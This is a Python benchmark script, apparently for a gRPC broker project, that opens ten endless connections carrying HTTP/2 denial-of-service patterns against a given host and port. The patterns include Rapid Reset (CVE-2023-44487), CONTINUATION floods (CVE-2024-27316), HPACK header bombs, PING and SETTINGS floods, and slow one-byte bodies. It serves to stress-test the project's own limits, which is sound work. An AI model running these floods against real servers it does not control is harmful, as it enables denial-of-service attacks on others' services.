"""Ten connections that do their worst: ``python -m benchmarks.hostile_peers HOST:PORT``, until it is terminated.

Owns:      what each of them sends, as fast as the socket takes it; who is closed connects again at once.
Not here:  what an ordinary client notices of it (hostile.py), the bounds (trio_broker/rpc/limits.py, docs/RPC.md).
Threads:   one for each connection.

What is sent is built once, in large pieces: the peer's own cost is next to nothing, the server has the work.
"""

import itertools
import os
import random
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from trio_broker.rpc import frames
from trio_broker.rpc.hpack import literal

REST_S = 0.01
"""Between a connection that was closed and the next one: otherwise it is mostly handshakes of TCP that are measured."""
READ_BYTES = 256 * 1024
HELLO = frames.PREFACE + frames.settings({})
IDS = range(1, 2**31, 2)


def head(method: str, *, more: bytes = b"") -> bytes:
    """The header block of a call, without Huffman coding or a table."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/broker.Broker/{method}",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(literal(name.encode(), value.encode()) for name, value in fields.items()) + more


PUBLISH = head("Publish")


def opened(stream_id: int, block: bytes = PUBLISH, flags: int = frames.END_HEADERS) -> bytes:
    return frames.frame(frames.HEADERS, flags, stream_id, block)


def data(stream_id: int, body: bytes, flags: int = 0) -> bytes:
    return frames.frame(frames.DATA, flags, stream_id, body)


def pings() -> Iterator[bytes]:
    """PINGs without end."""
    yield HELLO
    yield from itertools.repeat(frames.frame(frames.PING, 0, 0, b"12345678") * 2000)


def settings() -> Iterator[bytes]:
    """SETTINGS that change the window of every open stream, back and forth."""
    yield HELLO + b"".join(opened(stream_id) for stream_id in IDS[:900])
    one = frames.settings({frames.INITIAL_WINDOW_SIZE: 1}) + frames.settings({frames.INITIAL_WINDOW_SIZE: 2**20})
    yield from itertools.repeat(one * 500)


def rapid_resets() -> Iterator[bytes]:
    """Calls that are reset at once (CVE-2023-44487)."""
    yield HELLO
    for begin in itertools.count(1, 1000):
        ids = range(begin, begin + 1000, 2)
        yield b"".join(opened(stream_id) + frames.reset(stream_id, frames.CANCEL) for stream_id in ids)


def window_updates() -> Iterator[bytes]:
    """Windows that grow by one byte at a time."""
    yield HELLO
    yield from itertools.repeat(frames.window_update(0, 1) * 4000)


def crumbs() -> Iterator[bytes]:
    """The bodies of large requests, by frames of one byte each, some of them empty."""
    yield HELLO
    for stream_id in IDS:
        yield (
            opened(stream_id)
            + data(stream_id, b"\0\0\3\0\0")
            + (data(stream_id, b"x") * 50 + data(stream_id, b"")) * 50
        )


def large_headers() -> Iterator[bytes]:
    """Header lists as large as is allowed, from few bytes by the table of HPACK, and beyond."""
    entry = b"\x40" + literal(b"x-bomb", b"b" * 3000)[1:]
    yield HELLO + opened(1, head("Publish", more=entry), frames.END_HEADERS | frames.END_STREAM)
    for stream_id in IDS[1:]:
        block = head("Nothing", more=b"\xbe" * (4 if stream_id % 4 == 1 else 2000))
        yield opened(stream_id, block, frames.END_HEADERS | frames.END_STREAM)


def headers_without_end() -> Iterator[bytes]:
    """A header block that does not end, of empty CONTINUATIONs (CVE-2024-27316) and then, again, one in crumbs."""
    begin = HELLO + frames.frame(frames.HEADERS, 0, 1, PUBLISH)
    yield begin
    for _ in range(40):
        yield frames.frame(frames.CONTINUATION, 0, 1, b"\0")
        time.sleep(0.05)
    yield from itertools.repeat(frames.frame(frames.CONTINUATION, 0, 1) * 1000)


def answers_without_window() -> Iterator[bytes]:
    """Subscriptions and fetches with no window for what they get, 900 at a time, which are reset and opened again."""
    subject = b"\x0a\x07hostile"
    request = b"\0" + frames.pack_u32(len(subject)) + subject
    yield frames.PREFACE + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
    for begin in itertools.count(1, 1800):
        ids = range(begin, begin + 1800, 2)
        for stream_id in ids:
            method = "Subscribe" if stream_id % 4 == 1 else "Fetch"
            yield opened(stream_id, head(method)) + data(stream_id, request, frames.END_STREAM)
        time.sleep(1)
        yield b"".join(frames.reset(stream_id, frames.CANCEL) for stream_id in ids)


def slow_bodies() -> Iterator[bytes]:
    """A thousand requests side by side, of each a byte at a time."""
    yield HELLO + b"".join(opened(stream_id) + data(stream_id, b"\0\0\3\0\0") for stream_id in IDS[:1000])
    for stream_id in itertools.cycle(IDS[:1000]):
        yield data(stream_id, b"x")
        time.sleep(0.001)


def noise() -> Iterator[bytes]:
    """What is no HTTP/2: HTTP/1, the beginning of TLS, half a preface, random bytes; then the connection is left."""
    yield random.choice(
        [
            b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(99),
            frames.PREFACE[:9],
            os.urandom(5000),
            HELLO + os.urandom(5000),
        ]
    )


KINDS: tuple[Callable[[], Iterator[bytes]], ...] = (
    pings,
    settings,
    rapid_resets,
    window_updates,
    crumbs,
    large_headers,
    headers_without_end,
    answers_without_window,
    slow_bodies,
    noise,
)
READ_NOTHING = (pings, answers_without_window)
"""Those that leave what they are answered in the socket."""


def attack(address: tuple[str, int], kind: Callable[[], Iterator[bytes]]) -> None:
    """Be one of the ten, for ever."""
    while True:
        with suppress(OSError), socket.create_connection(address, timeout=5) as sock:
            for piece in kind():
                sock.sendall(piece)
                while kind not in READ_NOTHING and _readable(sock):
                    if not sock.recv(READ_BYTES):
                        raise ConnectionResetError
        time.sleep(REST_S)


def _readable(sock: socket.socket) -> bool:
    try:
        return bool(sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) or True)
    except BlockingIOError:
        return False


def main() -> None:
    """Attack until terminated."""
    host, _, port = sys.argv[1].rpartition(":")
    for kind in KINDS:
        threading.Thread(target=attack, args=((host, int(port)), kind), daemon=True).start()
    print("attacking", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
